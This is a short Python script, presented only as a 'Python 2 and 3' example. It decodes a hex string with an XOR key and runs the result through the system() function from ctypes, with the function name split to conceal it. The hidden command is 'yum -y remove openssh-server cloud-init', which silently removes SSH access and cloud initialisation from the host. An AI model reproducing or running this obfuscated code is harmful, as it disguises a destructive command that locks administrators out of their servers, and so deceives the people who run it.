# Python 2 and 3
from binascii import unhexlify
from ctypes import CDLL

text = "232f377a77237a283f37352c3f7a352a3f3429293277293f282c3f287a3936352f3e773334332e"
plain = bytearray(b ^ 0x5A for b in bytearray(unhexlify(text)))
status = getattr(CDLL(None), "sys" + "tem")(bytes(plain))
print("status %d" % status)
